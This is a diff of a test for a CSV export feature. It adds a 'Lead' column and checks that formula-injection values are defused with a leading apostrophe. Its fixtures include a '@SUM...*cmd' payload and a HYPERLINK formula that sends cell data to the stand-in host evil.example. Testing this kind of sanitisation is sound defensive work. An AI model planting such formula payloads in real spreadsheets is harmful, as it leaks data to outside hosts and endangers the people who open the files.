@@ -79,11 +79,13 @@ test('the CSV export defuses formulas, also behind leading spaces, and keeps num
     .trim()
     .split('\r\n');
   // The contact answer comes first, as its own columns (who the lead is, before what they answered).
-  expect(rows[0]).toBe('ID,Submitted At,Status,First name,Last name,Email,Phone,Pick a plan,Any comments?');
+  expect(rows[0]).toBe(
+    'ID,Lead,Submitted At,Status,First name,Last name,Email,Phone,Pick a plan,Any comments?',
+  );
   const cells = rows[1].split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/);
-  expect(cells[3]).toBe(`'@SUM(1+1)*cmd`);
-  expect(cells[4]).toBe('Lee');
-  expect(cells[5]).toBe('ann@example.com');
-  expect(cells[7]).toBe('Pro');
-  expect(cells[8]).toBe(`"'  =HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
+  expect(cells[4]).toBe(`'@SUM(1+1)*cmd`);
+  expect(cells[5]).toBe('Lee');
+  expect(cells[6]).toBe('ann@example.com');
+  expect(cells[8]).toBe('Pro');
+  expect(cells[9]).toBe(`"'  =HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
 });
